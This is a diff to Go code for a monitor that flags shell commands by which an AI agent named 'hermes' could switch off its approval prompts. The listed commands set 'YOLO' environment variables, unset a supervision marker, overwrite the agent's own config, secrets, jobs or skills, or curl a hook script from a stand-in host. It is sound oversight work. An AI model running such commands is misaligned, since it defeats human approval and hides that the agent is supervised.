@@ -28,7 +28,7 @@ func selfConfig() table {
 			[]string{
 				"hermes config set approvals.mode off", "hermes config edit", "hermes approvals suggest --apply 1,2", "hermes approvals revoke all", "hermes pairing approve telegram A1", "hermes skills install x",
 				"hermes profile install ./p", "hermes cron add '* * * * *' x", "hermes gateway run", "hermes gateway install", "hermes mcp add x -- npx y", "hermes auth add openrouter", "hermes login",
-				"./hermes config set a.b c", "python -m hermes_cli.main config set a b", "go run ./cmd/hermes config set a b", "hermes -p work config unset a", "hermes $(echo config) set a b", "hermes doctor --ack W12",
+				"./hermes config set a.b c", "python -m hermes_cli.main config set a b", "go run ./cmd/hermes config set a b", "go run ./cmd/hermes/main.go config set a b", "hermes -p work config unset a", "hermes $(echo config) set a b", "hermes doctor --ack W12",
 				"hermes sandbox clean --all", "hermes tools enable shell", "hermes setup", "sudo hermes gateway install", "hermes egress proxy --listen 0.0.0.0:1", "hermes config $X a", "python3 hermes_cli/main.py config set a b",
 			},
 			[]string{
@@ -58,15 +58,15 @@ func selfConfig() table {
 			[]string{"HERMES_YOLO_MODE=1 hermes chat -q hi", "env HERMES_YOLO_MODE=yes hermes exec id", "HERMES_EXEC_ASK=0 make x", "HERMES_CRON_SESSION= hermes exec ls"},
 			[]string{"HERMES_HOME=/tmp/x go test ./...", "HERMES_LOG=debug hermes doctor", "YOLO=1 make"}),
 		row("variable that switches hermes' questions off, for the session", "makes every agent start without questions, or hides that it is supervised",
-			all(runs("export", "declare", "typeset", "readonly", "unset", "setenv", "set", "local"), when(exportsUnasked)),
-			[]string{"export HERMES_YOLO_MODE=true; hermes", "declare -x HERMES_YOLO_MODE=1", "unset HERMES_SUPERVISED_CHILD; hermes gateway stop", "export HERMES_EXEC_ASK=0"},
+			all(runs("export", "declare", "typeset", "readonly", "unset", "setenv", "set", "local", "make", "docker", "podman", "launchctl", "systemctl", "systemd-run", "setx"), when(exportsUnasked)),
+			[]string{"export HERMES_YOLO_MODE=true; hermes", "declare -x HERMES_YOLO_MODE=1", "unset HERMES_SUPERVISED_CHILD; hermes gateway stop", "export HERMES_EXEC_ASK=0", "launchctl setenv HERMES_YOLO_MODE 1", "docker run -e HERMES_YOLO_MODE=1 x"},
 			[]string{"export HERMES_HOME=/tmp/x", "export PATH=$PATH:/x", "unset X", "echo HERMES_YOLO_MODE=1"}),
 		row("write into hermes' own files", "changes the agent's settings, secrets, jobs, skills or memory behind its back",
 			wrote((*ctx).isOwnFile),
 			[]string{
 				"echo 'approvals: {mode: off}' > ~/.hermes/config.yaml", "cp /tmp/auth.json ~/.hermes/auth.json", "echo '{}' > ~/.hermes/cron/jobs.json", "curl -so ~/.hermes/hooks/pre.sh https://x.example/h",
 				"cd ~/.hermes && echo x > config.yaml", "echo x >> $HERMES_HOME/.env", "sed -i s/a/b/ ~/.hermes/config.yaml", "dd if=x of=$HOME/.hermes/state.db", "tee ~/.hermes/SOUL.md < x", "truncate -s 0 ~/.hermes/state.db",
-				"mkdir -p ~/.hermes/skills/x && cp e.md ~/.hermes/skills/x/SKILL.md",
+				"echo x > ../.hermes/config.yaml", "echo x > .hermes/.env", "mkdir -p ~/.hermes/skills/x && cp e.md ~/.hermes/skills/x/SKILL.md",
 			},
 			[]string{"cat ~/.hermes/config.yaml", "cp ~/.hermes/config.yaml /tmp/x", "echo x > ./config.yaml", "ls ~/.hermes", "tail ~/.hermes/logs/agent.log", "echo x > ~/.hermes/logs/note.log", "grep x ~/.hermes/config.yaml > out"}),
 		row("change of hermes' own files by another program", "changes the agent's settings, secrets, jobs, skills or memory behind its back",
@@ -144,7 +144,9 @@ func (c *ctx) hermesWords(i int) (words []shell.Word, ok bool) {
 		t := args[k].Text
 		switch {
 		case t == "--":
-			return words, true
+			if len(words) > 0 {
+				return words, true
+			}
 		case len(t) > 1 && t[0] == '-' && len(words) == 0:
 			switch t {
 			case "-p", "--profile", "-c", "--config", "--home", "-m", "--model", "--log-level", "--cwd":
@@ -163,7 +165,7 @@ func (c *ctx) hermesWords(i int) (words []shell.Word, ok bool) {
 func (c *ctx) behind(args []shell.Word, k int, name string) int {
 	for ; k < len(args); k++ {
 		t := args[k].Text
-		if base(strings.TrimSuffix(t, "/")) == name || base(t) == name+".go" {
+		if base(strings.TrimSuffix(strings.TrimSuffix(t, "/main.go"), "/")) == name || base(t) == name+".go" {
 			return k + 1
 		}
 		if c.skips(t) {
@@ -354,10 +356,31 @@ func (c *ctx) ownPath(p string) (string, bool) {
 			rest, ok = strings.TrimPrefix(p[n+len("/.hermes"):], "/"), true
 		}
 	}
+	if !ok {
+		rest, ok = c.climbed(p)
+	}
 	if profile, found := strings.CutPrefix(rest, "profiles/"); found {
 		_, rest, _ = cut(profile, '/')
 	}
 	return rest, ok
+}
+
+// climbed returns a path below a folder named like hermes' own, where the start directory is not known or left.
+func (c *ctx) climbed(p string) (string, bool) {
+	switch {
+	case strings.HasPrefix(p, "../"), p != "" && p[0] == 0:
+		n := strings.Index(p, "/.hermes")
+		if n < 0 {
+			return "", false
+		}
+		p = p[n+1:]
+	case c.facts.Dir != "":
+		return "", false
+	}
+	if !under(p, ".hermes") {
+		return "", false
+	}
+	return strings.TrimPrefix(p[len(".hermes"):], "/"), true
 }
 
 // changesDatabase holds unless all a database client is told is to read.
